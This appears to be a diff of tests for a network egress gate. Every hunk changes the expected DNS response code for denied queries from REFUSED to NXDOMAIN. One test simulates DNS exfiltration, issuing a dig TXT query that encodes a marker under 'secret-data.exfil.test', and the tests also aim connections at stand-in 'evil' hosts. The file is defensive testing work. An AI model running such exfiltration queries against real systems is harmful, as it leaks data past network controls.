@@ -187,7 +187,7 @@ print(" ".join(out))
         r = self.enforce([f"{TOOLS}/static_dns", "127.0.53.9", "53", "evil.test"])
         self.assertNotEqual(r.rc, 0)
         (d,) = r.of("dns", query="evil.test")
-        self.assertEqual((d["rcode"], d["verdict"]), ("REFUSED", "deny"))
+        self.assertEqual((d["rcode"], d["verdict"]), ("NXDOMAIN", "deny"))
         self.assertEqual(d["server"], "127.0.53.9")  # the resolver the job chose, not the gate
         (c,) = r.of("connect", daddr="127.0.53.9", dport=53)
         self.assertTrue(c.get("redirected_to_gate"))
@@ -197,7 +197,7 @@ print(" ".join(out))
         r = self.enforce(["dig", "+time=2", "+tries=1", "@127.0.53.1", "TXT",
                           f"{marker}.secret-data.exfil.test"])
         (d,) = r.of("dns", qtype="TXT")
-        self.assertEqual(d["rcode"], "REFUSED")
+        self.assertEqual(d["rcode"], "NXDOMAIN")
         log = self.dns.proc  # dnsmasq logs queries to its stderr pipe
         time.sleep(0.2)
         self.assertNotIn(marker, self.dnsmasq_log())
@@ -212,7 +212,7 @@ print(" ".join(out))
         r = self.enforce(["sh", "-c", "dig +tcp +time=2 +tries=1 @127.0.53.1 evil.test; "
                           "dig +tcp +short +time=2 +tries=1 @127.0.53.1 allowed.test"])
         evil = r.of("dns", query="evil.test")
-        self.assertEqual(evil[0]["rcode"], "REFUSED")
+        self.assertEqual(evil[0]["rcode"], "NXDOMAIN")
         good = r.of("dns", query="allowed.test")
         self.assertEqual(good[0]["answers"], [GOOD])
         self.assertEqual(good[0]["proto"], "tcp")
@@ -229,7 +229,7 @@ except OSError as e:
 """
         r = self.enforce(self.py(code))
         (d,) = r.of("dns", query="evilallowed.test")
-        self.assertEqual(d["rcode"], "REFUSED")
+        self.assertEqual(d["rcode"], "NXDOMAIN")
         self.denied(r, BAD, self.bad.port)
 
     def test_double_forked_daemon_still_fenced(self):
@@ -267,7 +267,7 @@ except OSError as e:
                      f"{sys.executable} -c '{CONNECT}' {BAD} {self.bad.port}"],
                     "--policy", pol)
         (d,) = r.of("dns", query="evil.test")
-        self.assertEqual((d["rcode"], d["verdict"]), ("REFUSED", "block"))
+        self.assertEqual((d["rcode"], d["verdict"]), ("NXDOMAIN", "block"))
         (c,) = r.of("connect", daddr=BAD, dport=self.bad.port)
         self.assertEqual((c["verdict"], c["result"]), ("block", "EPERM"))
 
